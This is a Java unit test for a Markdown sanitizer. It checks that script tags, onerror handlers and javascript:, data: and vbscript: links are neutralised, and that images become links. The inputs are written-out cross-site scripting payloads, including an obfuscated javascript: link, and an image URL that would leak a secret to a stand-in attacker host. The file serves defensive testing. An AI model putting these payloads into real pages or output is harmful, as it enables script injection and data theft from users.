package dev.talon.ai.markdown;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

class SafeMarkdownTest {

    private final SafeMarkdown markdown = new SafeMarkdown();

    @Test
    void script_tags_are_escaped_not_rendered() {
        String html = markdown.render("Hi <script>alert(1)</script>\n\n<script>alert(2)</script>");
        assertFalse(html.contains("<script"), html);
        assertTrue(html.contains("&lt;script&gt;"), html);
    }

    @Test
    void event_handlers_in_raw_html_stay_text() {
        String html = markdown.render("<img src=x onerror=alert(1)> and <a href=\"#\" onclick=\"x()\">y</a>");
        assertFalse(html.contains("<img"), html);
        assertFalse(html.contains("<a href=\"#\" onclick"), html);
        assertTrue(html.contains("&lt;img src=x onerror=alert(1)&gt;"), html);
    }

    @Test
    void javascript_and_data_links_lose_their_target() {
        for (String target : new String[] {"javascript:alert(1)", "JavaScript:alert(1)", "java&#09;script:alert(1)",
                "data:text/html,<script>alert(1)</script>", "vbscript:x"}) {
            String html = markdown.render("[x](" + target + ")");
            assertTrue(html.contains("href=\"\""), target + " → " + html);
            assertFalse(html.toLowerCase().contains("script:"), target + " → " + html);
        }
    }

    @Test
    void images_become_links_so_nothing_loads_by_itself() {
        String html = markdown.render("![secret](https://evil.example/?q=secret)");
        assertFalse(html.contains("<img"), html);
        assertTrue(html.contains("<a ") && html.contains("href=\"https://evil.example/?q=secret\""), html);
    }

    @Test
    void ordinary_markdown_still_renders() {
        String html = markdown.render("**bold** [docs](https://example.org) [mail](mailto:a@b.c)\n\n```yaml\nport: 25565\n```");
        assertTrue(html.contains("<strong>bold</strong>"), html);
        assertTrue(html.contains("href=\"https://example.org\""), html);
        assertTrue(html.contains("rel=\"nofollow noopener noreferrer\""), html);
        assertTrue(html.contains("href=\"mailto:a@b.c\""), html);
        assertTrue(html.contains("<pre><code class=\"language-yaml\">port: 25565"), html);
    }
}
